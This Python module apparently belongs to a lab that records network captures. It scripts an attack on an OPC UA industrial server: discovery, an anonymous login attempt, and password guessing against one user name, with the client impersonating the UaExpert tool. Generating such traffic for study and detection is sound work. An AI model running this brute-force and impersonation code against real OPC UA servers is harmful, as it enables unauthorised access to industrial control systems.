"""The OPC UA authentication attack: discovery, a refused anonymous login and a burst of
wrong passwords against a server that accepts user names only. See pcaps/README.md."""

from __future__ import annotations

import asyncio
import logging
import time
from typing import Any

from lab.roles import RoleArgs, role
from lab.roles.opcua import _url


@role("opcua_auth-attacker")
def opcua_auth_attacker(args: RoleArgs) -> None:
    """FindServers, GetEndpoints, anonymous ActivateSession, then guessed passwords."""
    logging.basicConfig(level=logging.CRITICAL)
    asyncio.run(_attack(args))


def _client(url: str) -> Any:
    from asyncua.client.client import Client

    client = Client(url, timeout=4, watchdog_intervall=5.0)
    client.name = client.description = "UaExpert"  # what the attacker claims to be
    client.application_uri = "urn:rogue-laptop:UnifiedAutomation:UaExpert"
    return client


async def _login(url: str, user: str | None, password: str | None) -> str:
    """One connection: Hello, OpenSecureChannel, CreateSession, ActivateSession; the name of
    the status code the server refuses it with (SystemExit if it is accepted)."""
    from asyncua.ua.uaerrors import UaStatusCodeError

    client = _client(url)
    if user is not None:
        client.set_user(user)
        client.set_password(password or "")
    try:
        await client.connect()
    except UaStatusCodeError as exc:
        return type(exc).__name__
    await client.disconnect()
    raise SystemExit(f"opcua-auth: {user or 'anonymous'} was accepted")


async def _attack(args: RoleArgs) -> None:
    url, gap = _url(args["server"]), float(args.get("gap", 0.3))
    start = time.monotonic()

    def say(what: str) -> None:
        print(f"opcua-auth: {time.monotonic() - start:5.2f} s {what}", flush=True)

    await asyncio.sleep(float(args.get("delay", 2.0)))
    say("1 discovery: FindServers, GetEndpoints (each on a channel of its own)")
    servers = await _client(url).connect_and_find_servers()
    say("  servers: " + ", ".join(str(s.ApplicationUri) for s in servers))
    endpoints = await _client(url).connect_and_get_server_endpoints()
    offered = sorted(
        {f"{e.SecurityPolicyUri.split('#')[-1]}/{e.SecurityMode.name}" for e in endpoints}
    )
    tokens = sorted({t.TokenType.name for e in endpoints for t in e.UserIdentityTokens})
    say(f"  endpoints: {', '.join(offered)}; tokens {', '.join(tokens)}")
    await asyncio.sleep(gap * 2)
    say("2 anonymous ActivateSession")
    say("  anonymous: " + await _login(url, None, None))
    await asyncio.sleep(gap * 2)
    say(f"3 password guessing for {args['user']!r}")
    for password in args["passwords"]:
        say(f"  {args['user']}/{password}: " + await _login(url, args["user"], password))
        await asyncio.sleep(gap)
    say("done")
